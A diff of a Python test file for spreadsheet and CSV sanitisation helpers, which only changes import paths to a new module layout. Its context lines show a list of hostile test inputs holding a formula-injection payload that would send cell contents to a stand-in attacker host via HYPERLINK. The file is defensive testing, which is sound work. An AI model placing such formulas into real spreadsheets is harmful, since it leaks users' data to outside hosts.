@@ -18,7 +18,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from helpers.spreadsheet import csv_safe, formula_safe, write_workbook
+from helpers.present.spreadsheet import csv_safe, formula_safe, write_workbook
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -96,8 +96,8 @@ def test_workbook_holds_text_not_formulas_or_links(tmp_path: Path) -> None:
 
 def test_show_table_writes_guarded_csv(tmp_path: Path, root: Path) -> None:
     """The CSV download of a table holds ``'=...`` (inert in Excel), and numbers as numbers."""
-    from helpers import charts
-    from helpers.pack import context
+    from helpers.present import charts
+    from helpers.present import page as context
 
     ctx = context.open_pack(root / "config" / "demo.yaml", tmp_path / "pack" / "data", "public", notebook="04_x")
     try:
